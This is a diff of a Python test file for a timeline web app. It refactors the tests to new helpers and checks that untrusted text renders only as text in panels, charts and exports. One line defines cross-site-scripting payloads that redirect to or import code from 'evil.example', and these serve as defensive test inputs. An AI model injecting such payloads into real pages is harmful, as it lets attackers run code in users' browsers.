@@ -9,6 +9,7 @@ from itertools import cycle, islice, product
 import pytest
 
 from timeline.chronology import resolve
+from timeline.dates import read_date
 from timeline.exchange import EXPORTERS, to_page, to_worksheet
 from timeline.layout import lay_out
 from timeline.lesson import Stage
@@ -16,6 +17,7 @@ from timeline.marks import paint_plotly
 from timeline.markup import about, event_list, event_panel, lesson_panel, masthead
 from timeline.story import Event, Lane, Outlet, Person, Quotation, Source, Story, Term
 from timeline.table import entries_of, to_table
+from timeline.timeline import make_timeline
 
 # Ours, by what each is after; {n} tells one from another.
 _ACTS = ("window.broken={n}", "top.location='//evil.example/{n}'", "import('//evil.example/{n}')")
@@ -81,7 +83,7 @@ def affair(texts: list[str]) -> Story:
                 publisher=first,
                 title=first,
                 author=first,
-                published="2018-04-22",
+                published=read_date("2018-04-22"),
                 note=first,
             ),
         ),
@@ -92,7 +94,7 @@ def affair(texts: list[str]) -> Story:
         events=tuple(
             Event(
                 id=f"e{number}",
-                date="2012",
+                date=read_date("2012"),
                 headline=text,
                 summary=text,
                 lane="l",
@@ -129,20 +131,20 @@ class Structure(HTMLParser):
 
 def markups(story: Story) -> dict[str, str]:
     """Every part of the page and every page that goes out, as HTML, for a story of one event."""
-    chronology = resolve(story)
-    table = to_table(story, chronology)
-    row = table.iloc[0]
+    timeline = make_timeline(story)
+    table = timeline.table
+    (event,) = timeline.chronology.order
     lesson = {
-        f"lesson {kind}": lesson_panel(story, row, place="1", stage=Stage(kind), language="en")
+        f"lesson {kind}": lesson_panel(timeline, event, place="1", stage=Stage(kind))
         for kind in ("headline", "date", "quotation", "question")
     }
     return lesson | {
         "masthead": masthead(story),
         "about": about(story),
         "list": event_list(story, entries_of(table)),
-        "panel": event_panel(story, row, place="1", reasons=""),
-        "offline page": to_page(story, chronology),
-        "worksheet": to_worksheet(story, chronology, copy="teacher"),
+        "panel": event_panel(timeline, event, place="1"),
+        "offline page": to_page(timeline),
+        "worksheet": to_worksheet(timeline, copy="teacher"),
     }
 
 
@@ -156,11 +158,10 @@ def test_no_part_of_the_page_holds_an_element_made_of_text(text: str) -> None:
 
 
 def test_a_thousand_strings_stand_in_the_panels_letter_by_letter() -> None:
-    story = affair(STRINGS)
-    table = to_table(story, resolve(story))
-    for place, text in enumerate(STRINGS):
-        event = story.event(str(table["id"][place]))
-        panel = Structure(event_panel(story, table.iloc[place], place="1", reasons=""))
+    timeline = make_timeline(affair(STRINGS))
+    for identity, text in zip(timeline.chronology.order, STRINGS, strict=True):
+        event = timeline.story.event(identity)
+        panel = Structure(event_panel(timeline, identity, place="1"))
         assert "".join(panel.words).count(event.headline) >= 4, text
         assert {tag for tag, _ in panel.elements}.isdisjoint(
             {"script", "img", "iframe", "svg", "a"}
@@ -181,7 +182,7 @@ def test_a_thousand_strings_are_only_text_in_the_chart() -> None:
 
 def test_exports_hold_a_thousand_strings_as_they_are() -> None:
     story = affair(STRINGS)
-    written = json.loads(EXPORTERS["json"](story, resolve(story)))
+    written = json.loads(EXPORTERS["json"](make_timeline(story)))
     assert [event["headline"] for event in written["story"]["events"]] == [
         event.headline for event in story.events
     ]
